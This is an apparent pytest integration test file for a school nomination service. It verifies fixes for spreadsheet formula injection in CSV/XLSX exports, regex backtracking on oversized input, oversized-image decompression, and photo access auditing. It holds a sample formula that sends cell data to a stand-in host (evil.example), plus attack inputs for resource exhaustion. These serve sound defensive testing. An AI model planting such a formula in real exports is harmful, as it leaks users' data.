"""Issue 14 in nominations: formula-like form text leaves the 汇总表 as text (5), free text is bounded and
checked in linear time (6), photos are capped in pixels (7) and are personal data (12)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import time
import uuid

import pytest
import sqlalchemy as sa
from flask.testing import FlaskClient
from nominations.bootstrap import Nominations
from openpyxl import load_workbook
from PIL import Image
from pypdf import PdfReader

from shared.audit import audit_log
from tests.integration.nominations.conftest import CITY, SCHOOL
from tests.integration.nominations.flow import (
    JIAOZUO_FORM,
    PNG,
    create,
    fill_and_attest,
    give_certificate,
    open_round,
    submit,
)
from tests.tokens import TestIssuer

pytestmark = pytest.mark.integration

AUDITOR = ("auditor", "/4108")
HELAN_COUNTY = ("county_reviewer", "/640122")
HELAN_SCHOOL = ("school_admin", "/640122/6401220001")
FORMULA = '=HYPERLINK("http://evil.example/?d="&C2,"查看详情")'


def audited(service: Nominations, action: str) -> list[tuple[str, str]]:
    with service.engine.connect() as conn:
        rows = conn.execute(sa.select(audit_log.c.actor, audit_log.c.target).where(audit_log.c.action == action))
        return [tuple(r) for r in rows]


def submitted(client: FlaskClient, issuer: TestIssuer, service: Nominations, **form: object) -> tuple[str, str]:
    """A submitted Jiaozuo nomination with `form` over the defaults; returns (round id, nomination id)."""
    give_certificate(service)
    round_ = open_round(client, issuer)
    created = create(client, issuer, round_["id"])
    etag = fill_and_attest(client, issuer, created)
    if form:
        h = issuer.headers("school-admin", SCHOOL, **{"If-Match": etag})
        patched = client.patch(f"/api/nominations/{created.json['id']}", json={"form": form}, headers=h)
        assert patched.status_code == 200, patched.json
        again = client.post(
            f"/api/nominations/{created.json['id']}/attestation",
            json={"signer_name": "张三", "confirm": True},
            headers=issuer.headers("school-admin", SCHOOL, **{"If-Match": patched.headers["ETag"]}),
        )
        etag = again.headers["ETag"]
    assert submit(client, issuer, created.json["id"], etag).status_code == 200
    return round_["id"], created.json["id"]


def test_summary_table_writes_formula_like_form_text_as_text(
    client: FlaskClient, issuer: TestIssuer, service: Nominations
) -> None:
    round_id, _ = submitted(client, issuer, service, administrative_post=FORMULA, professional_title="@SUM(1)")
    h = issuer.headers("city", CITY)
    body = client.get(f"/api/rounds/{round_id}/summary?format=csv", headers=h).get_data(as_text=True)
    row = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))[1]
    assert "'" + FORMULA in row and "'@SUM(1)" in row and FORMULA not in row
    xlsx = client.get(f"/api/rounds/{round_id}/summary?format=xlsx", headers=h)
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    assert sheet is not None
    cells = next(iter(sheet.iter_rows(min_row=2, max_row=2)))
    assert all(c.data_type != "f" for c in cells)  # no cell is a live formula
    assert "'" + FORMULA in [c.value for c in cells]


def test_a_40kb_email_is_refused_in_linear_time(client: FlaskClient, issuer: TestIssuer) -> None:
    """The old e-mail expression took seconds on `a@a.a.…` (quadratic backtracking); now it is a length
    check and one pass, and the answer names the field."""
    round_ = open_round(client, issuer, policy="helan-2024", org="640122", grant=HELAN_COUNTY)
    created = client.post(
        "/api/nominations",
        json={"round_id": round_["id"], "school_org_code": "6401220001"},
        headers=issuer.headers("helan-school", HELAN_SCHOOL),
    )
    assert created.status_code == 201, created.json
    started = time.monotonic()
    answer = client.patch(
        f"/api/nominations/{created.json['id']}",
        json={"form": {"email": "a@" + "a." * 20_000 + " "}},
        headers=issuer.headers("helan-school", HELAN_SCHOOL, **{"If-Match": created.headers["ETag"]}),
    )
    assert time.monotonic() - started < 1.0
    assert answer.status_code == 422 and [e["field"] for e in answer.json["errors"]] == ["form.email"]


@pytest.mark.parametrize(
    ("url", "field"),
    [
        ("/api/nominations?org_code=" + "4" * 40_000, "org_code"),
        ("/api/nominations/candidates?org_code=" + "4" * 40_000, "org_code"),
    ],
)
def test_a_40kb_query_value_is_refused_naming_the_field(
    client: FlaskClient, issuer: TestIssuer, url: str, field: str
) -> None:
    answer = client.get(url, headers=issuer.headers("city", CITY))
    assert answer.status_code == 422 and field in [e["field"] for e in answer.json["errors"]]


def test_a_40kb_round_policy_id_is_refused_naming_the_field(client: FlaskClient, issuer: TestIssuer) -> None:
    answer = client.post(
        "/api/rounds",
        json={
            "title": "2022年首席信息官推荐",
            "policy_id": "x" * 40_000,
            "issuing_org_code": "4108",
            "deadline": "2030-01-01T00:00:00+08:00",
        },
        headers=issuer.headers("bureau", CITY),
    )
    assert answer.status_code == 422 and [e["field"] for e in answer.json["errors"]] == ["policy_id"]


def huge_png(width: int = 8000, height: int = 8000) -> bytes:
    out = io.BytesIO()
    Image.new("1", (width, height)).save(out, format="PNG", optimize=True)
    return out.getvalue()


def test_an_8000_by_8000_photo_is_refused_before_anything_decodes_it(client: FlaskClient, issuer: TestIssuer) -> None:
    content = huge_png()
    assert len(content) < 2 * 1024 * 1024  # within the policy's byte limit: only the pixel cap stops it
    round_ = open_round(client, issuer)
    created = create(client, issuer, round_["id"])
    answer = client.put(
        f"/api/nominations/{created.json['id']}/photo",
        data=content,
        content_type="image/png",
        headers=issuer.headers("s", SCHOOL, **{"If-Match": created.headers["ETag"]}),
    )
    assert answer.status_code == 422 and answer.json["errors"][0]["field"] == "photo"
    assert "megapixels" in str(answer.json["errors"][0])


def test_a_stored_oversized_photo_never_reaches_the_pdf_renderer(
    client: FlaskClient, issuer: TestIssuer, service: Nominations
) -> None:
    """A photo stored before the cap is left out of the printed form instead of being decoded."""
    _, nid = submitted(client, issuer, service)
    h = issuer.headers("school-admin", SCHOOL)
    assert pdf_images(client.get(f"/api/nominations/{nid}/form.pdf", headers=h).data) > 0
    with service.uow() as uow:
        uow.nominations.put_photo(uuid.UUID(nid), "image/png", "0" * 64, huge_png(), dt.datetime.now(dt.UTC))
        uow.commit()
    printed = client.get(f"/api/nominations/{nid}/form.pdf", headers=h)
    assert printed.status_code == 200 and pdf_images(printed.data) == 0


def pdf_images(pdf: bytes) -> int:
    return sum(len(page.images) for page in PdfReader(io.BytesIO(pdf)).pages)


def test_the_photo_is_personal_data_masked_roles_do_not_get_it(
    client: FlaskClient, issuer: TestIssuer, service: Nominations
) -> None:
    _, nid = submitted(client, issuer, service)
    assert client.get(f"/api/nominations/{nid}/photo", headers=issuer.headers("aud", AUDITOR)).status_code == 403
    pdf = client.get(f"/api/nominations/{nid}/form.pdf", headers=issuer.headers("aud", AUDITOR))
    assert pdf.status_code == 200
    assert pdf_images(pdf.data) == 0

    own = client.get(f"/api/nominations/{nid}/photo", headers=issuer.headers("school-admin", SCHOOL))
    assert own.status_code == 200 and own.data == PNG
    assert audited(service, "nomination.photo_read") == []  # the nominating unit reads its own photo
    reviewer = client.get(f"/api/nominations/{nid}/photo", headers=issuer.headers("city", CITY))
    assert reviewer.status_code == 200 and reviewer.data == PNG
    assert audited(service, "nomination.photo_read") == [("city", nid)]  # a reveal elsewhere is audited


def test_form_text_still_round_trips_unchanged(client: FlaskClient, issuer: TestIssuer, service: Nominations) -> None:
    """Escaping happens in the export only: the stored form keeps exactly what was typed."""
    _, nid = submitted(client, issuer, service, administrative_post="-副校长")
    form = client.get(f"/api/nominations/{nid}", headers=issuer.headers("school-admin", SCHOOL)).json["form"]
    assert form["administrative_post"] == "-副校长" and form["education"] == JIAOZUO_FORM["education"]
